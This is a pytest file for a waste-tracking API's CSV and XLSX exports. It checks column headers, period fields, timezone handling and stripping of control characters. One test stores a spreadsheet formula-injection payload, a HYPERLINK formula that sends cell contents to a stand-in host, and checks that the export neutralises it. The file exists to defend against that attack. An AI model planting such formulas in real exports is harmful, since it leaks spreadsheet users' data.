"""Every table view downloads as CSV and XLSX that a spreadsheet opens."""

import csv
import io
import re
from datetime import datetime, timedelta

import httpx
import openpyxl
import pytest

from mobile_api.routers import ports as ports_router
from schemas.ports import PortMetric
from tests.custody.helpers import advance, post_event, tag_bag
from tests.factories import CITY_TODAY, World, event
from tests.ports.test_ports import Harbour, arrive, deliver, delivery, harbour  # noqa: F401
from wastetrack.alerts import service as alerts
from wastetrack.catalog.models import TreatmentMethod
from wastetrack.core import paging
from wastetrack.core.exports import to_csv, to_xlsx
from wastetrack.indicators.models import IndicatorValue

DAY = CITY_TODAY.isoformat()
PERIOD = {"date_from": DAY, "date_to": DAY}
ENDED = (CITY_TODAY - timedelta(days=1)).isoformat()  # a period entered by hand has ended
VIEWS = [
    ("/m/v1/metrics/utilization", PERIOD, "utilization_rate.numerator"),
    ("/m/v1/metrics/sorting", PERIOD, "coverage.denominator"),
    ("/m/v1/metrics/mass-balance", PERIOD, "weighed_over_declared.rate"),
    ("/m/v1/metrics/ports", PERIOD, "collection_treatment_rate.rate"),
    ("/m/v1/metrics/sea-areas", PERIOD, "share.numerator"),
    ("/m/v1/metrics/pesticide", PERIOD, None),
    ("/m/v1/metrics/medical-coverage", {}, "name"),
    ("/m/v1/metrics/cells", {}, None),
    ("/m/v1/indicators", {}, "actual.value"),
    ("/m/v1/alerts", {}, "kind"),
]

# Figures counted over a period (not a standing on one day, nor a list of records).
FIGURES_OVER_A_PERIOD = {
    "/m/v1/metrics/utilization",
    "/m/v1/metrics/sorting",
    "/m/v1/metrics/mass-balance",
    "/m/v1/metrics/ports",
    "/m/v1/metrics/sea-areas",
    "/m/v1/metrics/pesticide",
    "/m/v1/metrics/medical-coverage",
}


async def test_table_views_download_as_csv_and_xlsx(
    client: httpx.AsyncClient, world: World
) -> None:
    bag = await tag_bag(client, world, carrier_organization_id=world.orgs["carrier"].id)
    await tag_bag(client, world, device_time="2020-01-01T08:00:00+08:00")  # overdue: an alert
    await advance(client, world, bag["code"], until="treated")
    await tag_bag(client, world, "other_clinic")  # a clinic never collected
    await client.post("/m/v1/alerts/refresh", headers=world.headers("manager"))
    for path, params, column in VIEWS:
        got = await client.get(
            path, params={**params, "format": "csv"}, headers=world.headers("manager")
        )
        assert got.status_code == 200, (path, got.text)
        assert got.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
        if column:
            assert column in rows[0], (path, rows[0])
            assert len(rows) >= 2, path
        book = await client.get(
            path, params={**params, "format": "xlsx"}, headers=world.headers("manager")
        )
        sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
        assert sheet is not None and sheet.max_row == max(len(rows), 1), path
        if path in FIGURES_OVER_A_PERIOD and len(rows) > 1:
            # A saved file says which days it counts: every row names the period used.
            days = got.headers["x-period"].split("/")
            first, last = rows[0].index("date_from"), rows[0].index("date_to")
            assert all([r[first], r[last]] == days for r in rows[1:]), path


async def test_utilization_per_stream_downloads_as_its_own_table(
    client: httpx.AsyncClient, world: World
) -> None:
    """The per-stream rows (the figure a stream is judged on) come as a file too, the same
    numbers as the JSON's `streams`; the default file stays per stream and category."""
    bag = await tag_bag(client, world, carrier_organization_id=world.orgs["carrier"].id)
    await advance(client, world, bag["code"], until="treated")
    await tag_bag(client, world, category="med.sharps", waste_code="841-002-01")
    answer = await client.get(
        "/m/v1/metrics/utilization", params=PERIOD, headers=world.headers("manager")
    )
    streams = answer.json()["streams"]
    assert [s["stream"] for s in streams] == ["medical"] and len(answer.json()["categories"]) == 2
    got = await client.get(
        "/m/v1/metrics/utilization",
        params={**PERIOD, "format": "csv", "table": "streams"},
        headers=world.headers("manager"),
    )
    assert got.status_code == 200, got.text
    assert "utilization-streams.csv" in got.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert len(rows) == 1 and "category" not in rows[0]
    row, figures = rows[0], streams[0]
    assert row["stream"] == "medical"
    assert [row["date_from"], row["date_to"]] == [DAY, DAY]
    for name in ("utilization_rate", "harmless_treatment_rate"):
        for part in ("numerator", "denominator"):
            assert row[f"{name}.{part}"] == str(figures[name][part]), (name, part)
    assert int(row["batches"]) == figures["batches"] == 2
    wrong = await client.get(
        "/m/v1/metrics/utilization",
        params={**PERIOD, "format": "csv", "table": "towns"},
        headers=world.headers("manager"),
    )
    assert wrong.status_code == 422 and '"table"' in wrong.text


async def test_figure_files_have_their_read_models_columns_whatever_their_rows_hold(
    client: httpx.AsyncClient, world: World
) -> None:
    """A file of utilization or mass balance has the columns its answer declares - every fate
    and every treatment mode of the catalogue, with each rate's parts - even for a period with
    no batch (a header alone) or whose batches touch a few fates: two files of one figure
    line up. The OpenAPI document declares the answer's fields too."""
    empty_day = (CITY_TODAY - timedelta(days=40)).isoformat()
    modes = sorted({m.mode for m in await TreatmentMethod.all()})
    headers = {}
    for params in ({"date_from": empty_day, "date_to": empty_day}, PERIOD):
        if params is PERIOD:
            bag = await tag_bag(client, world, carrier_organization_id=world.orgs["carrier"].id)
            await advance(client, world, bag["code"], until="treated")
        for path, table in (
            ("/m/v1/metrics/utilization", "categories"),
            ("/m/v1/metrics/utilization", "streams"),
            ("/m/v1/metrics/mass-balance", None),  # one table: it takes no `table`
        ):
            got = await client.get(
                path,
                params={**params, "format": "csv", **({"table": table} if table else {})},
                headers=world.headers("manager"),
            )
            assert got.status_code == 200, got.text
            header = next(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
            headers.setdefault((path, table), []).append(header)
    for (path, _), (empty, full) in headers.items():
        assert empty == full, path
    utilization = headers[("/m/v1/metrics/utilization", "categories")][0]
    assert utilization[:4] == ["date_from", "date_to", "stream", "category"], utilization
    streams = headers[("/m/v1/metrics/utilization", "streams")][0]
    assert streams[:3] == ["date_from", "date_to", "stream"], streams
    for fate in ("recovered", "pending", "rejected", "in_progress"):
        assert f"fates.{fate}.rate" in utilization, utilization
    assert [f"treated_kg.{mode}" for mode in modes] == [
        c for c in utilization if c.startswith("treated_kg.")
    ]
    assert (
        "weighed_over_declared.definition.source"
        in (headers[("/m/v1/metrics/mass-balance", None)][0])
    )
    document = (await client.get("/openapi.json")).json()
    for path, model in (
        ("/m/v1/metrics/utilization", "UtilizationRead"),
        ("/m/v1/metrics/mass-balance", "MassBalanceRead"),
    ):
        answer = document["paths"][path]["get"]["responses"]["200"]["content"]
        assert answer["application/json"]["schema"]["$ref"].endswith(model), answer


async def test_pesticide_and_indicator_files_have_their_columns_with_no_row_to_show_them(
    client: httpx.AsyncClient, world: World
) -> None:
    """A region with no agri-input shop has a shops' and a towns' file with their header, not
    an empty file; the indicators' file has every part of a value (a computed one's
    definition too) whatever the values hold, and no bare `actual` column."""
    for table, key in (("shops", "organization_id"), ("towns", "region_id")):
        got = await client.get(
            "/m/v1/metrics/pesticide",
            params={**PERIOD, "format": "csv", "table": table},
            headers=world.headers("manager"),
        )
        assert got.status_code == 200, got.text
        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
        assert len(rows) == 1, rows
        assert rows[0][:3] == ["date_from", "date_to", "sold"], rows[0]
        assert {key, "recovery_rate.rate", "kg.recovery_rate.numerator"} <= set(rows[0])
        assert "materials" not in rows[0]
    got = await client.get(
        "/m/v1/indicators", params={"format": "csv"}, headers=world.headers("manager")
    )
    header = next(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert "actual" not in header and "actual.definition.formula" in header, header
    assert header[-1] == "status_rule", header


async def test_text_that_would_start_a_formula_is_exported_as_text(
    client: httpx.AsyncClient, world: World
) -> None:
    """A manager's note beginning with "=" would run as a formula in the city's spreadsheet."""
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"来源")'
    response = await client.post(
        "/m/v1/indicators/straw_utilization/values",  # a figure entered by hand
        json={"value": "50", "period_end": ENDED, "source_note": hostile},
        headers=world.headers("manager"),
    )
    assert response.status_code == 201, response.text
    got = await client.get(
        "/m/v1/indicators", params={"format": "csv"}, headers=world.headers("manager")
    )
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    column = rows[0].index("actual.source_note")
    assert "'" + hostile in [row[column] for row in rows[1:]]
    book = await client.get(
        "/m/v1/indicators", params={"format": "xlsx"}, headers=world.headers("manager")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    (cell,) = [c for c in cells if c.value == hostile]
    assert cell.data_type == "s"  # a string, not a formula


async def test_a_control_character_stored_before_it_was_refused_does_not_break_the_xlsx(
    client: httpx.AsyncClient, world: World
) -> None:
    """The API refuses control characters now; a row stored before may hold one, which a
    spreadsheet cannot: the cell keeps the rest of the text, the download does not fail."""
    response = await client.post(
        "/m/v1/indicators/straw_utilization/values",
        json={"value": "50", "period_end": ENDED, "source_note": "县农业局统计"},
        headers=world.headers("manager"),
    )
    assert response.status_code == 201, response.text
    await IndicatorValue.all().update(source_note="县农业局\x01统计\x1f表\uffff\t一\ufffe")
    book = await client.get(
        "/m/v1/indicators", params={"format": "xlsx"}, headers=world.headers("manager")
    )
    assert book.status_code == 200, book.text
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    column = [c.value for c in sheet[1]].index("actual.source_note")
    assert "县农业局统计表\t一" in [row[column].value for row in sheet.iter_rows(min_row=2)]


def test_a_header_that_would_start_a_formula_is_text_too() -> None:
    """Column names come from the rows' keys: none a user types today, but the header row is
    written as the others are."""
    rows = list(
        csv.reader(io.StringIO(to_csv(["=名称", "数量"], [["=a", -3]]).decode("utf-8-sig")))
    )
    assert rows == [["'=名称", "数量"], ["'=a", "-3"]]
    book = to_xlsx(["=名称", "数量"], [["=a", -3]], title="表")
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in sheet[1]] == [("=名称", "s"), ("数量", "s")]
    assert [(c.value, c.data_type) for c in sheet[2]] == [("=a", "s"), (-3, "n")]


def test_text_spelled_as_a_spreadsheet_error_is_text_in_xlsx() -> None:
    """An organization renamed `#N/A` (the admin route takes it) came out of every XLSX as the
    spreadsheet's error value, which each formula reading the column then carries on
    (exports review): text is a text cell, whatever its spelling."""
    errors = ["#N/A", "#DIV/0!", "#REF!", "#NAME?", "#NUM!", "#NULL!", "#VALUE!"]
    book = to_xlsx(["名称"], [[e] for e in errors], title="表")
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(e, "s") for e in errors]


def test_a_yes_or_no_is_spelled_as_the_json_spells_it() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["逾期"], [[True], [False]]).decode("utf-8-sig"))))
    assert rows == [["逾期"], ["true"], ["false"]]


def test_headers_and_title_lose_what_a_spreadsheet_cannot_hold() -> None:
    book = to_xlsx(["名\x0b称", "数量"], [["a\x0cb", 3]], title="表\x02")
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None and sheet.title == "表"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["名称", "数量"], ["ab", 3]]


async def test_moments_kept_as_text_in_details_are_on_the_citys_clock_too(
    client: httpx.AsyncClient, world: World
) -> None:
    """An alert's details keep its moments as text (a clock anomaly's device times, a cleared
    alert's `cleared_at`): the download gives them on the city's clock, as it gives
    `raised_at`, in CSV and XLSX alike; text of another shape is left as it is."""
    bag = await tag_bag(client, world, carrier_organization_id=world.orgs["carrier"].id)
    collected = event("collected", bag["code"], minutes=60)
    assert (await post_event(client, world, "carrier", collected)).status_code == 201
    late = event(
        "in_transit", bag["code"], minutes=20, destination_organization_id=world.orgs["facility"].id
    )
    assert (await post_event(client, world, "carrier", late)).status_code == 201
    params = {"open_only": "false"}
    listed = await client.get("/m/v1/alerts", params=params, headers=world.headers("manager"))
    (anomaly,) = [a for a in listed.json() if a["kind"] == "scan_anomaly"]
    assert anomaly["details"]["device_time"].endswith("+00:00")  # as the JSON keeps it
    for format in ("csv", "xlsx"):
        got = await client.get(
            "/m/v1/alerts", params={**params, "format": format}, headers=world.headers("manager")
        )
        if format == "csv":
            rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(got.content)).active
            rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        (row,) = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
        for column in ("raised_at", "details.device_time", "details.previous_device_time"):
            assert str(row[column]).endswith("+08:00"), (format, column, row[column])
        assert datetime.fromisoformat(row["details.device_time"]) == datetime.fromisoformat(
            anomaly["details"]["device_time"]
        )
        assert row["details.code"] == bag["code"]


async def test_a_list_file_with_no_rows_has_its_columns(
    client: httpx.AsyncClient, world: World
) -> None:
    """A list's file takes its columns from the list's read model, not from the rows it
    happens to hold: an empty one still has its header, so two files of one list stack."""
    got = await client.get(
        "/m/v1/alerts", params={"format": "csv"}, headers=world.headers("manager")
    )
    details = ",".join(f"details.{key}" for key in alerts.DETAILS)
    assert got.content.decode("utf-8-sig").splitlines() == [
        f"id,kind,batch_id,organization_id,raised_at,due_at,{details},"
        "acknowledged_by_id,acknowledged_at"
    ]
    got = await client.get(
        "/m/v1/metrics/medical-coverage",
        params={"format": "csv"},
        headers=world.headers("manager"),
    )
    header = got.content.decode("utf-8-sig").splitlines()[0]
    assert header == "date_from,date_to,id,name,kind,bed_count"


async def test_every_file_of_the_alert_list_has_the_same_columns(
    client: httpx.AsyncClient, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two files of one walk of the list, each holding an alert of another kind, have one
    header, so they stack: the details each kind holds are columns of every file, in one order
    (an independent review found each file adding only its own rows' details)."""
    bag = await tag_bag(
        client, world, quantity="5", carrier_organization_id=world.orgs["carrier"].id
    )
    await advance(client, world, bag["code"], until="received")  # weighed 3.4 of 5 kg
    await tag_bag(client, world, device_time="2020-01-01T08:00:00+08:00")  # overdue
    await client.post("/m/v1/alerts/refresh", headers=world.headers("manager"))
    monkeypatch.setattr(paging, "FILE_LIMIT", 1)
    files: list[list[dict[str, str]]] = []
    url: str | None = "/m/v1/alerts?format=csv"
    while url is not None:
        got = await client.get(url, headers=world.headers("manager"))
        assert got.status_code == 200, got.text
        files.append(list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig")))))
        found = re.fullmatch(r'<([^>]+)>; rel="next"', got.headers.get("Link", ""))
        url = found[1] if found else None
    assert sorted(f[0]["kind"] for f in files) == ["overdue_storage", "weight_discrepancy"]
    headers = {tuple(f[0]) for f in files}
    assert len(headers) == 1
    (header,) = headers
    assert [c for c in header if c.startswith("details.")] == [
        f"details.{k}" for k in alerts.DETAILS
    ]


async def test_a_ports_file_row_carries_the_ports_own_fields_as_the_json_does(
    client: httpx.AsyncClient,
    world: World,
    harbour: Harbour,  # noqa: F811
) -> None:
    """Each port's rows carry every field its JSON entry has beside its groups - port_calls,
    deliveries, flagged_deliveries (what a manager checks) - with the JSON's values, in the CSV
    and the XLSX alike: one call, two deliveries, one flagged (the large vessel never
    arrived)."""
    await arrive(client, world, harbour.small)
    assert (await deliver(client, world, delivery(harbour, harbour.small))).status_code == 201
    flagged = await deliver(client, world, delivery(harbour, harbour.large))
    assert flagged.json()["flags"] == ["no_open_port_call"], flagged.text
    period = {"date_from": ENDED, "date_to": DAY}
    headers = world.headers("manager")
    answer = (await client.get("/m/v1/metrics/ports", headers=headers, params=period)).json()
    port = next(p for p in answer["ports"] if p["port_id"] == world.orgs["port"].id)
    assert (port["port_calls"], port["deliveries"], port["flagged_deliveries"]) == (1, 2, 1)
    own = {key: value for key, value in port.items() if key != "groups"}
    got = await client.get(
        "/m/v1/metrics/ports", headers=headers, params={**period, "format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
    ours = [r for r in rows if r["figure"] == "port" and r["port_id"] == str(port["port_id"])]
    assert [r["group"] for r in ours] == [g["group"] for g in port["groups"]]
    want = {k: str(v).lower() if isinstance(v, bool) else str(v) for k, v in own.items()}
    for row in ours:
        assert {k: row[k] for k in own} == want, row["group"]
    book = await client.get(
        "/m/v1/metrics/ports", headers=headers, params={**period, "format": "xlsx"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    header, *cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    for key in ("port_calls", "deliveries", "flagged_deliveries"):
        column = header.index(key)
        found = {r[column] for r in cells if r[header.index("port_id")] == port["port_id"]}
        assert found == {port[key]}, (key, found)


def test_a_port_without_groups_still_has_its_row() -> None:
    """The file's port rows come from the port entry's fields (all but `groups`), so a field
    the JSON gains is in the file too; a port with no group (no group in the rules) still has
    a row of its own."""
    port = {
        "port_id": 7,
        "port_name": "龙眼港",
        "listed": False,
        "port_calls": 3,
        "deliveries": 2,
        "flagged_deliveries": 1,
        "groups": [],
    }
    result = {
        "date_from": DAY,
        "date_to": DAY,
        "ports": [port],
        "listed_ports": {
            "groups": [],
            "headline": {
                "group": "garbage",
                "numerator": "0",
                "denominator": "0",
                "rate": None,
                "unit": "kg",
                "definition": {},
            },
        },
        "reception_facility_share": {},
    }
    rows = [r for r in ports_router._port_rows(result) if r["figure"] == "port"]
    own = {k: v for k, v in port.items() if k != "groups"}
    assert rows == [{"date_from": DAY, "date_to": DAY, "figure": "port", **own}]
    assert set(PortMetric.model_fields) - {"groups"} == set(own)
